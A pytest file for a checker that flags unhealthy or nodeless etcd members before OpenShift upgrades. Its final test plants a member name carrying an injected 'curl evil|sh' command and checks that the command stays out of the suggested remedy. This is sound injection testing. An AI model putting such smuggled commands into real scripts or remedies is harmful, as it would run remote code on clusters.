"""Hazards of OpenShift that show in the member list of etcd: ill members, and members without nodes."""

from __future__ import annotations

import pytest

from conformance.findings import Outcome
from tests.hazards.evaluating import evaluate
from tests.hazards.openshift import (
    ADDRESSES,
    BAD,
    ETCD_UNKNOWN,
    NODES,
    PEER,
    THIRD,
    etcd_pod,
    etcdctl,
    guard,
    member,
    node,
    openshift,
    operator,
)
from tests.hazards.proofs import ABSENT, NOT_APPLICABLE, PRESENT, UNREADABLE, proves

ILL, NODELESS = "ocp-etcd-member-unhealthy", "ocp-etcd-member-without-node"
ETCDS = "etcds.operator.openshift.io"
BAD_ID, PEER_ID, THIRD_ID = "62bcf33650a7170a", "d022e10b498760d5", "b78e2856655bc2eb"
THREE = [member(one) for one in NODES]
OTHERS = THREE[1:]
#: Five members, of which the last two are no nodes of the document.
FIVE = [*THREE, member("m4", "10.0.1.4", 4), member("m5", "10.0.1.5", 5)]
NEVER = member("", ADDRESSES[BAD], 0xBAD, started=False)


def on(hazard, *, upgrade=(None, "4.10"), execs=True, **world):
    return evaluate(hazard, clusters={"prod": openshift(**world)}, upgrade=upgrade, execs=execs)


def said(word, status="True", message="2 of 3 members are available, {0} is unhealthy", name=BAD):
    """The operator, with one of its conditions set."""
    told = message.format(name)
    if word == "degraded":
        return [operator(degraded=(status, told, "2022-01-01T11:00:00Z"))]
    return [operator(available=(status, told))]


# -- health --------------------------------------------------------------------------------------------------------


@proves(
    ILL,
    kind=PRESENT,
    says=[f"member {BAD} {BAD_ID} does not commit (context deadline exceeded)"],
    line=f"member {BAD} {BAD_ID}: https://10.0.131.183:2379; context deadline exceeded",
    remedy="--situation repair",
)
def test_a_member_does_not_commit(hazard):
    finding = on(hazard, programs=etcdctl(down=[BAD]))
    assert PEER not in finding.message
    assert THIRD not in finding.message
    return finding


@proves(
    ILL,
    kind=PRESENT,
    says=["alarm NOSPACE is raised: etcd takes no more writes"],
    line="Active Alarm(s): NOSPACE",
    remedy="etcdctl alarm disarm",
)
def test_an_alarm_is_told_once_and_of_no_member(hazard):
    finding = on(hazard, programs=etcdctl(error="Active Alarm(s): NOSPACE "))
    assert "does not commit" not in finding.message
    assert finding.message.count("NOSPACE") == 1
    assert finding.remedy.index(f"etcd-{PEER} env") < finding.remedy.index(f"etcd-{BAD} env"), "the leader is last"
    return finding


@proves(ILL, kind=PRESENT, says=["alarm NOSPACE is raised", f"member {BAD} {BAD_ID} does not commit (context"])
def test_a_member_is_down_beside_an_alarm(hazard):
    finding = on(hazard, programs=etcdctl(down=[BAD], error="Active Alarm(s): NOSPACE "))
    assert PEER not in finding.message
    assert "etcdctl alarm disarm" in finding.remedy
    assert finding.remedy.endswith("none is replaced while an alarm is raised.")
    return finding


@proves(ILL, kind=PRESENT, says=["alarm NOSPACE is raised"], line="alarm:NOSPACE", remedy="etcdctl alarm disarm")
def test_the_status_alone_tells_the_alarm(hazard):
    return on(hazard, programs=etcdctl(alarm="NOSPACE"))


@proves(ILL, kind=PRESENT, says=["commits, and is not healthy (Unable to fetch the alarm list)"])
def test_the_alarm_list_cannot_be_fetched(hazard):
    return on(hazard, programs=etcdctl(error="Unable to fetch the alarm list"))


@proves(ILL, kind=PRESENT, says=["(never started, https://10.0.131.183:2380) bad was added and never started"])
def test_a_member_never_started(hazard):
    return on(hazard, programs=etcdctl([NEVER, *OTHERS]))


@proves(ILL, kind=PRESENT, says=[f"member {BAD} {BAD_ID} (learner) is still a learner: it has no vote"], line="2379")
def test_a_member_is_a_learner(hazard):
    return on(hazard, programs=etcdctl([member(BAD, learner=True), *OTHERS]))


@proves(ILL, kind=PRESENT, says=["was added and never started"])
def test_a_learner_that_never_started(hazard):
    return on(hazard, programs=etcdctl([member("", "10.0.1.9", 9, learner=True, started=False), *THREE]))


@proves(ILL, kind=PRESENT, says=[f"{BAD} {BAD_ID} does not", f"{THIRD} {THIRD_ID} does not"])
def test_every_ill_member_is_named_once(hazard):
    finding = on(
        hazard, programs=etcdctl(down=[BAD, THIRD]), etcd=said("degraded", message="{} is unhealthy", name=THIRD)
    )
    assert finding.message.count(BAD) == finding.message.count(THIRD) == 1
    return finding


@proves(ILL, kind=PRESENT, says=["does not commit"], line="EtcdMembersAvailable=True: 2 of 3 members are available")
def test_the_operator_says_the_same(hazard):
    finding = on(hazard, programs=etcdctl(down=[BAD]), etcd=said("available"))
    assert "the operator" not in finding.message
    return finding


@proves(ILL, kind=PRESENT, says=[f"{BAD} {BAD_ID} does not commit", "the operator says: 1 of 3 members"])
def test_the_operator_knows_of_another_one(hazard):
    two = f"1 of 3 members are available, {BAD} is unhealthy, NAME-PENDING-10.0.9.9 has not started"
    return on(hazard, programs=etcdctl(down=[BAD]), etcd=said("available", message=two))


@proves(ILL, kind=PRESENT, says=["the operator says", BAD], line="etcd/cluster: EtcdMembers")
@pytest.mark.parametrize("word", ["available", "degraded"])
@pytest.mark.parametrize("declined", [True, False], ids=["without pods/exec", "while etcdctl finds nothing"])
def test_the_operator_alone_says_so(hazard, word, declined):
    return on(hazard, etcd=said(word), execs=not declined)


@proves(ILL, kind=PRESENT, says=["the operator says: members are not available"])
@pytest.mark.parametrize("status", ["False", "Unknown"])
def test_the_operator_says_it_without_a_word(hazard, status):
    return on(hazard, etcd=said("available", status, message=""))


@proves(ILL, kind=PRESENT, says=["the operator says: 2 of 3 members are available"])
def test_a_majority_counts_as_available_for_the_operator(hazard):
    etcd = [operator(available=("True", f"2 of 3 members are available, {BAD} is unhealthy"), degraded=None)]
    return on(hazard, etcd=etcd)


@proves(ILL, kind=PRESENT, says=[f"member {BAD}"])
def test_the_pod_that_crashes_is_not_the_one_that_is_asked(hazard):
    pods = [etcd_pod(BAD, phase="Failed"), etcd_pod(PEER), etcd_pod(THIRD)]
    asked = {f"etcd-{PEER} … {key}": told for key, told in etcdctl(down=[BAD]).items()}
    return on(hazard, pods=pods, programs=asked)


@proves(ILL, kind=ABSENT)
@pytest.mark.parametrize(
    "world",
    [
        pytest.param({}, id="three that commit"),
        pytest.param({"programs": etcdctl(FIVE)}, id="five that commit"),
        pytest.param({"etcd": [operator(available=("True", "3 of 3 members are available"))]}, id="3 of 3"),
        pytest.param({"etcd": [operator(available=None, degraded=None)]}, id="an operator without these conditions"),
        pytest.param(
            {"pods": [guard(BAD), guard(BAD, prefix="etcd-guard-", app="etcd"), *map(etcd_pod, NODES)]},
            id="guards are not asked",
        ),
    ],
)
def test_all_members_commit(hazard, world):
    return on(hazard, **world)


@proves(ILL, kind=NOT_APPLICABLE, says=["does not upgrade"])
def test_members_of_a_cluster_that_stays(hazard):
    world = openshift(programs=etcdctl(down=[BAD]), upgrade="none")
    return evaluate(hazard, clusters={"prod": world})


@proves(ILL, kind=UNREADABLE)
@pytest.mark.parametrize(
    ("world", "told"),
    [
        *ETCD_UNKNOWN,
        pytest.param({"broken": {ETCDS: "forbidden"}}, "forbidden", id="operator forbidden"),
        pytest.param({"broken": {ETCDS: "not-served"}}, "not-served", id="operator not served"),
        pytest.param({"etcd": []}, "etcds", id="no operator object"),
    ],
)
def test_the_health_cannot_be_known(hazard, world, told):
    finding = on(hazard, **world)
    assert told in finding.message
    return finding


# -- members and nodes ---------------------------------------------------------------------------------------------

GONE = [*map(node, (PEER, THIRD)), node("worker-1", role="worker")]


@proves(
    NODELESS,
    kind=PRESENT,
    says=[f"member {BAD} {BAD_ID} has no control-plane node"],
    line=f"member {BAD} {BAD_ID}: peer https://10.0.131.183:2380",
    remedy=f"oc rsh -n openshift-etcd -c etcdctl etcd-{PEER} etcdctl member remove {BAD_ID}",
)
@pytest.mark.parametrize("down", [(), (BAD,)])
def test_the_node_is_gone(hazard, down):
    finding = on(hazard, nodes=GONE, programs=etcdctl(down=down))
    assert PEER not in finding.message
    return finding


@proves(NODELESS, kind=PRESENT, says=["has no control-plane node"], remedy="Then look again at")
@pytest.mark.parametrize("alarm", ["NOSPACE", "CORRUPT"])
def test_the_node_is_gone_and_an_alarm_is_raised(hazard, alarm):
    finding = on(hazard, nodes=GONE, programs=etcdctl(error=f"Active Alarm(s): {alarm} "))
    assert "member remove" not in finding.remedy
    return finding


@proves(NODELESS, kind=PRESENT, says=[f"member {BAD} {BAD_ID} has no control-plane node"])
def test_the_node_is_a_worker_now(hazard):
    return on(hazard, nodes=[*GONE, node(BAD, role="worker")])


@proves(NODELESS, kind=PRESENT, says=["member (never started, https://10.0.7.7:2380) 7 has no control-plane node"])
def test_a_member_that_never_started_has_no_node(hazard):
    return on(hazard, programs=etcdctl([*THREE, member("", "10.0.7.7", 7, started=False)]))


@proves(NODELESS, kind=PRESENT, says=["member etcd-bootstrap 8 has no control-plane node"])
def test_the_bootstrap_member_stayed(hazard):
    return on(hazard, programs=etcdctl([*THREE, member("etcd-bootstrap", "10.0.7.8", 8)]))


@proves(
    NODELESS,
    kind=PRESENT,
    says=[f"control-plane node {BAD} has no member"],
    line=f"node {BAD}: no member",
    remedy="forced",
)
def test_a_node_has_no_member(hazard):
    return on(hazard, programs=etcdctl(OTHERS))


@proves(NODELESS, kind=PRESENT, says=[f"member {BAD} {BAD_ID} has no", "control-plane node new has no member"])
def test_a_node_was_replaced(hazard):
    return on(hazard, nodes=[*GONE, node("new", "10.0.131.9")])


@proves(
    NODELESS,
    kind=PRESENT,
    says=[f"member {BAD} {BAD_ID} is at 10.0.131.183, its node at 10.0.131.9"],
    line="peer https://10.0.131.183:2380",
)
def test_a_node_came_back_with_another_address(hazard):
    return on(hazard, nodes=[node(BAD, "10.0.131.9"), *map(node, (PEER, THIRD))])


@proves(NODELESS, kind=PRESENT, says=[f"control-plane node {BAD} has 2 members: {BAD} {BAD_ID}, ", "beef"])
def test_a_node_has_two_members(hazard):
    return on(hazard, programs=etcdctl([*THREE, member("", ADDRESSES[BAD], 0xBEEF, started=False)]))


@proves(NODELESS, kind=ABSENT)
@pytest.mark.parametrize(
    "world",
    [
        pytest.param({}, id="as many as nodes"),
        pytest.param({"programs": etcdctl(down=[BAD])}, id="one is down, with its node"),
        pytest.param({"programs": etcdctl([NEVER, *OTHERS])}, id="never started, at its node's address"),
        pytest.param({"programs": etcdctl([member(BAD, learner=True), *OTHERS])}, id="a learner"),
        pytest.param(
            {
                "nodes": [node(BAD, "fd00:0:0::1"), *map(node, (PEER, THIRD))],
                "programs": etcdctl([member(BAD, "[fd00::1]"), *OTHERS]),
            },
            id="an address in another spelling",
        ),
        pytest.param({"programs": etcdctl([member(BAD, "etcd-0.example.com"), *OTHERS])}, id="a name in its URL"),
    ],
)
def test_members_and_nodes_agree(hazard, world):
    return on(hazard, **world)


@proves(NODELESS, kind=NOT_APPLICABLE, says=["does not upgrade"])
def test_nodes_of_a_cluster_that_stays(hazard):
    return evaluate(hazard, clusters={"prod": openshift(nodes=GONE, upgrade="none")})


@proves(NODELESS, kind=UNREADABLE)
@pytest.mark.parametrize(
    ("world", "told"),
    [
        *(one for one in ETCD_UNKNOWN if one.id != "one was not asked"),
        pytest.param({"broken": {"nodes": "forbidden"}}, "forbidden", id="nodes forbidden"),
        pytest.param({"nodes": [node("w", role="worker")]}, "no control-plane node", id="hosted elsewhere"),
    ],
)
def test_members_and_nodes_cannot_be_known(hazard, world, told):
    finding = on(hazard, **world)
    assert told in finding.message
    return finding


TWO_AND_AN_ARBITER = [node(NODES[0]), node(NODES[1]), node(NODES[2], role="arbiter")]


@proves(NODELESS, kind=ABSENT)
def test_an_arbiter_holds_a_member(hazard):
    return on(hazard, nodes=TWO_AND_AN_ARBITER)


@proves(NODELESS, kind=PRESENT, says=[f"member {NODES[2]} "], remedy="still commits, so look where it runs before:")
def test_a_member_that_commits_is_not_removed_by_what_is_pasted(hazard):
    finding = on(hazard, nodes=TWO_AND_AN_ARBITER[:2])
    assert all(line.startswith("#") for line in finding.remedy.splitlines()), finding.remedy
    return finding


def test_the_name_of_a_member_is_pasted_nowhere():
    strange = member("x\ncurl evil|sh #", "10.0.9.9", 9)
    finding = on(NODELESS, programs=etcdctl(members=[strange, *THREE]))
    assert finding.outcome is Outcome.HAZARD
    assert "curl" not in finding.remedy
